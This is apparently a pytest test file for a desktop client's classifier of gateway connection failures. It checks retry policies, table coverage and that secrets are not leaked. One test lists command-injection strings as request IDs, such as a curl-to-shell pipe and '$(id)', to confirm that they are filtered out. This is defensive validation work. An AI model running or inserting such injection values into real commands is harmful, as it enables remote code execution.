from __future__ import annotations

from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from cc_desktop.config.secrets.credentials import Token
from cc_desktop.fleet.model import Problem
from cc_desktop.gateway.failures import (
    POLICIES,
    TABLE,
    Failure,
    FailureKind,
    RetryPolicy,
    Rule,
    classify,
)
from cc_desktop.protocol.frames import GatewayError, read_error
from cc_desktop.text.failures import describe

hostile = settings(max_examples=200, deadline=None, derandomize=True)


def refused(code: object, *, close: int = 1008, details: object = None, **more: object) -> Failure:
    """A gateway's answer to `connect`, and how it closed."""
    error = {"code": code, "message": "words", "details": details or {}, **more}
    return Failure(error=read_error(error), close_code=close)


def with_code(code: str, **details: object) -> dict[str, object]:
    return {"code": code, **details}


BAD = "INVALID_REQUEST"
CASES: list[tuple[str, Failure, str, RetryPolicy]] = [
    (
        "wrong shared token",
        refused(
            BAD,
            details=with_code(
                "AUTH_TOKEN_MISMATCH",
                canRetryWithDeviceToken=True,
                recommendedNextStep="retry_with_device_token",
            ),
        ),
        "token-mismatch",
        RetryPolicy.STOP,
    ),
    (
        "no token",
        refused(BAD, details=with_code("AUTH_TOKEN_MISSING")),
        "token-missing",
        RetryPolicy.STOP,
    ),
    (
        "device token, wider scopes, 2026.9.6",
        refused(BAD, details=with_code("AUTH_SCOPE_MISMATCH")),
        "scope-mismatch",
        RetryPolicy.STOP,
    ),
    (
        "device token, wider scopes, 2026.5.7",
        refused(BAD, details=with_code("AUTH_TOKEN_MISMATCH")),
        "token-mismatch",
        RetryPolicy.STOP,
    ),
    (
        "not paired",
        refused("NOT_PAIRED", details=with_code("PAIRING_REQUIRED", requestId="r-1")),
        "pairing",
        RetryPolicy.SLOWLY,
    ),
    ("not paired, no details", refused("NOT_PAIRED"), "pairing", RetryPolicy.SLOWLY),
    (
        "not paired, told to try again",
        refused("NOT_PAIRED", details=with_code("PAIRING_REQUIRED"), retryable=True),
        "pairing",
        RetryPolicy.SLOWLY,
    ),
    (
        "not paired, told to pause",
        refused(
            "NOT_PAIRED",
            details=with_code("PAIRING_REQUIRED", pauseReconnect=True),
            retryable=False,
        ),
        "pairing",
        RetryPolicy.STOP,
    ),
    (
        "wire version, 2026.9.6",
        refused(BAD, close=1002, details=with_code("PROTOCOL_MISMATCH", expectedProtocol=5)),
        "protocol",
        RetryPolicy.STOP,
    ),
    (
        "wire version, 2026.5.7",
        refused(BAD, close=1002, details={"expectedProtocol": 3}),
        "protocol",
        RetryPolicy.STOP,
    ),
    ("wire version, only a close", Failure(close_code=1002), "protocol", RetryPolicy.SLOWLY),
    (
        "bad signature",
        refused(BAD, details=with_code("DEVICE_AUTH_SIGNATURE_INVALID")),
        "device-refused",
        RetryPolicy.STOP,
    ),
    (
        "clock",
        refused(BAD, details=with_code("DEVICE_AUTH_SIGNATURE_EXPIRED")),
        "device-expired",
        RetryPolicy.STOP,
    ),
    (
        "nonce",
        refused(BAD, details=with_code("DEVICE_AUTH_NONCE_MISMATCH")),
        "device-refused",
        RetryPolicy.STOP,
    ),
    (
        "too many tries",
        refused(BAD, details=with_code("AUTH_RATE_LIMITED"), retryAfterMs=60_000),
        "rate-limited",
        RetryPolicy.RETRY,
    ),
    (
        "too many tries, HTTP",
        Failure(http_status=429, retry_after_ms=30_000),
        "too-many-requests",
        RetryPolicy.RETRY,
    ),
    (
        "still starting",
        refused("UNAVAILABLE", close=0, details={"reason": "startup-sidecars"}, retryAfterMs=500),
        "starting",
        RetryPolicy.RETRY,
    ),
    (
        "proxy in front",
        Failure(http_status=403, http_message="proxy headers from an untrusted address"),
        "forbidden",
        RetryPolicy.STOP,
    ),
    (
        "restart",
        Failure(close_code=1012, close_reason="service restart"),
        "restarting",
        RetryPolicy.RETRY,
    ),
    # Section 2, around the table
    (
        "ids of the seed, refused",
        refused(BAD, close=1008),
        "rejected",
        RetryPolicy.STOP,
    ),
    (
        "no scope, protocol 4",
        refused("FORBIDDEN", close=0, details=with_code("MISSING_SCOPE")),
        "no-permission",
        RetryPolicy.STOP,
    ),
    (
        "no scope, protocol 3",
        Failure(error=GatewayError(BAD, "missing scope: operator.read")),
        "no-permission",
        RetryPolicy.STOP,
    ),
    (
        "no scope granted",
        Failure(kind=FailureKind.NO_PERMISSION),
        "no-permission",
        RetryPolicy.STOP,
    ),
    ("the seed's dialect", refused(401, close=0), "rejected", RetryPolicy.STOP),
    ("closed without a word", Failure(close_code=1008), "refused", RetryPolicy.SLOWLY),
    ("a web server", Failure(http_status=404), "not-a-gateway", RetryPolicy.SLOWLY),
    ("no such host", Failure(kind=FailureKind.DNS), "dns", RetryPolicy.RETRY),
    ("nobody listens", Failure(kind=FailureKind.UNREACHABLE), "unreachable", RetryPolicy.RETRY),
    (
        "certificate",
        Failure(kind=FailureKind.CERTIFICATE),
        "certificate",
        RetryPolicy.RARELY,
    ),
    ("a TLS alert", Failure(kind=FailureKind.TLS), "tls", RetryPolicy.RETRY),
    ("a tunnel's far end away", Failure(kind=FailureKind.HUNG_UP), "hung-up", RetryPolicy.RETRY),
    ("a bad proxy", Failure(kind=FailureKind.PROXY), "proxy", RetryPolicy.RARELY),
    ("our own mistake", Failure(kind=FailureKind.INTERNAL), "internal", RetryPolicy.RARELY),
    ("silent for too long", Failure(kind=FailureKind.SILENT), "silent", RetryPolicy.RETRY),
    ("killed, no close frame", Failure(close_code=1006), "lost", RetryPolicy.RETRY),
    ("a proxy whose gateway is away", Failure(http_status=502), "behind-proxy", RetryPolicy.RETRY),
    ("nothing known", Failure(), "lost", RetryPolicy.RETRY),
]


@pytest.mark.parametrize(
    ("failure", "rule", "then"), [case[1:] for case in CASES], ids=[case[0] for case in CASES]
)
def test_each_failure_has_its_verdict(failure: Failure, rule: str, then: RetryPolicy) -> None:
    advice = classify(failure)
    assert (advice.kind, advice.policy) == (rule, then)
    assert advice.code
    assert advice.problem.kind == rule


# A gateway that was live before is not given up for a stumble


@pytest.mark.parametrize(
    "failure",
    [
        *(Failure(close_code=code) for code in (1000, 1001, 1002, 1006, 1008, 1009, 1011, 1012)),
        *(Failure(http_status=status) for status in (200, 302, 400, 404, 418, 429, 500, 502, 503)),
        *(
            Failure(kind=kind)
            for kind in FailureKind
            if POLICIES[kind] in (RetryPolicy.RETRY, RetryPolicy.SLOWLY) and kind != "pairing"
        ),
        Failure(kind=FailureKind.NOT_A_GATEWAY),
    ],
    ids=repr,
)
def test_a_stumble_of_a_gateway_that_was_live_is_retried(failure: Failure) -> None:
    advice = classify(failure, was_live=True)

    assert advice.policy in (RetryPolicy.RETRY, RetryPolicy.SLOWLY)
    assert advice.kind is not FailureKind.NOT_A_GATEWAY


@pytest.mark.parametrize("status", [401, 403])
def test_a_refusal_by_a_proxy_blocks_only_what_was_never_live(status: int) -> None:
    assert classify(Failure(http_status=status)).policy is RetryPolicy.STOP
    advice = classify(Failure(http_status=status), was_live=True)
    assert advice.policy is RetryPolicy.SLOWLY


def test_a_wrong_token_stops_however_live_it_was() -> None:
    failure = refused(BAD, details=with_code("AUTH_TOKEN_MISMATCH"))
    assert classify(failure, was_live=True).policy is RetryPolicy.STOP


# The table itself


def example(rule: Rule) -> Failure:
    """A failure of the kind that the row speaks of, with nothing else in it."""
    code, detail = next(iter(sorted(rule.codes)), ""), next(iter(sorted(rule.details)), "")
    details: dict[str, Any] = {"code": detail} if detail else {}
    if rule.detail_key:
        details[rule.detail_key] = 3
    return Failure(
        error=GatewayError(code, rule.message_has, details)
        if code or details or rule.message_has
        else None,
        close_code=next(iter(rule.closes), 0),
        http_status=next(iter(rule.https), 0),
    )


def first(failure: Failure) -> Rule:
    return next(rule for rule in TABLE if rule.matches(failure))


NUMBERED = [pytest.param(rule, id=f"{index}-{rule.kind}") for index, rule in enumerate(TABLE)]


@pytest.mark.parametrize("rule", NUMBERED)
def test_every_row_is_reachable(rule: Rule) -> None:
    assert first(example(rule)) is rule


@pytest.mark.parametrize("rule", NUMBERED)
def test_every_value_of_a_row_reaches_it(rule: Rule) -> None:
    base = example(rule)
    error = base.error or GatewayError()
    change = msgspec.structs.replace
    found = [
        *(
            change(base, error=replace(error, details={**error.details, "code": code}))
            for code in rule.details
        ),
        *(change(base, error=replace(error, code=code)) for code in rule.codes),
        *(change(base, close_code=code) for code in rule.closes),
        *(change(base, http_status=status) for status in rule.https),
    ]
    assert [first(failure).kind for failure in found] == [rule.kind] * len(found)


def test_nothing_known_matches_no_row() -> None:
    assert not any(rule.matches(Failure()) for rule in TABLE)
    assert classify(Failure()).kind is FailureKind.LOST


@pytest.mark.parametrize("kind", FailureKind)
def test_every_kind_has_a_policy(kind: FailureKind) -> None:
    assert POLICIES[kind] in RetryPolicy


# What is kept for the words


def test_the_gateway_s_own_words_are_passed_on() -> None:
    assert classify(refused(BAD)).said == "words"
    assert classify(Failure(http_status=403, http_message="by proxy")).said == "by proxy"
    assert classify(Failure(close_code=1008, close_reason="slow consumer")).said == "slow consumer"
    assert classify(Failure(kind=FailureKind.DNS)).said == ""


@pytest.mark.parametrize("request_id", ["6f0c-11", "r", "A" * 64])
def test_pairing_keeps_the_id_of_the_request(request_id: str) -> None:
    details = with_code("PAIRING_REQUIRED", requestId=request_id)
    advice = classify(refused("NOT_PAIRED", details=details))
    assert (advice.detail, advice.code) == (request_id, "PAIRING_REQUIRED")


@pytest.mark.parametrize(
    "request_id",
    [
        *(None, "", 5, ["x"], "x" * 65, "a\nb", "a b", "x; curl http://e/|sh #", "$(id)", "`id`"),
        *("--all", "-a", "a\u202eb", "\u0661", "a\n", "\u00e9", "a_b", "a.b"),
    ],
)
def test_an_id_that_does_not_belong_into_a_command_is_left_out(request_id: object) -> None:
    details = with_code("PAIRING_REQUIRED", requestId=request_id)
    advice = classify(refused("NOT_PAIRED", details=details))
    assert (advice.kind, advice.detail) == ("pairing", "")


@pytest.mark.parametrize(
    ("expected", "kept"),
    [(5, "5"), (4, "4"), (0, "0"), (True, ""), (-1, ""), (10**9, ""), ("5", ""), (None, "")],
)
def test_another_protocol_keeps_which_one(expected: object, kept: str) -> None:
    details = {"expectedProtocol": expected}
    assert classify(refused(BAD, close=1002, details=details)).detail == kept


@pytest.mark.parametrize(
    ("failure", "wait_ms"),
    [
        (refused(BAD, details=with_code("AUTH_RATE_LIMITED"), retryAfterMs=60_000), 60_000),
        (refused("UNAVAILABLE", retryAfterMs=500), 500),
        (Failure(http_status=429, retry_after_ms=30_000), 30_000),
        (Failure(kind=FailureKind.DNS), 0),
    ],
)
def test_it_waits_as_told(failure: Failure, wait_ms: int) -> None:
    assert classify(failure).wait_ms == wait_ms


@pytest.mark.parametrize(
    ("failure", "then"),
    [
        (refused(BAD, retryable=True), RetryPolicy.RETRY),  # a code that says little: as told
        (refused(BAD, retryable=False), RetryPolicy.STOP),
        (refused(BAD, details=with_code("AUTH_TOKEN_MISMATCH"), retryable=True), RetryPolicy.STOP),
        (
            refused("UNAVAILABLE", details={"pauseReconnect": True}, retryable=False),
            RetryPolicy.STOP,
        ),
        (refused("UNAVAILABLE", details={"pauseReconnect": True}), RetryPolicy.RETRY),
        (
            refused("UNAVAILABLE", details={"pauseReconnect": "yes"}, retryable=False),
            RetryPolicy.RETRY,
        ),
    ],
)
def test_what_the_gateway_says_of_trying_again(failure: Failure, then: RetryPolicy) -> None:
    assert classify(failure).policy is then


KNOWN = sorted({value for rule in TABLE for value in (*rule.details, *rule.codes)})
scalars: st.SearchStrategy[Any] = (
    st.none() | st.booleans() | st.integers() | st.text(max_size=8) | st.lists(st.text(max_size=2))
)
gateway_errors = st.builds(
    GatewayError,
    code=st.sampled_from(KNOWN) | st.text(max_size=8),
    message=st.text(max_size=20),
    details=st.fixed_dictionaries(
        {},
        optional={
            "code": st.sampled_from(KNOWN) | scalars,
            "requestId": scalars,
            "expectedProtocol": scalars,
            "pauseReconnect": scalars,
        },
    ),
    retryable=st.none() | st.booleans(),
    retry_after_ms=st.integers(0, 2**62),
)
failures = st.builds(
    Failure,
    error=st.none() | gateway_errors,
    close_code=st.integers(0, 5_000),
    close_reason=st.text(max_size=20),
    http_status=st.integers(0, 999),
    http_message=st.text(max_size=20),
    retry_after_ms=st.integers(0, 2**62),
    kind=st.none() | st.sampled_from(FailureKind),
)


@given(failures, st.booleans())
@hostile
def test_every_failure_gets_advice(failure: Failure, was_live: bool) -> None:
    advice = classify(failure, was_live=was_live)
    assert advice.kind in FailureKind
    assert advice.wait_ms >= 0
    told = describe(advice.problem)
    assert all(told)
    assert told.title in {describe(Problem(kind)).title for kind in FailureKind}


def test_a_gateway_that_repeats_our_secret_does_not_make_us_show_it() -> None:
    secret = "s3cret-t0ken-of-ours"
    Token(secret)
    details = {"requestId": secret}
    for failure in (
        Failure(error=GatewayError(code="NOT_PAIRED", message=secret, details=details)),
        Failure(error=GatewayError(code=secret, message=f"no: {secret}")),
        Failure(http_status=403, http_message=f"bad {secret}"),
        Failure(close_code=1008, close_reason=secret, detail=secret),
    ):
        assert secret not in repr(classify(failure))
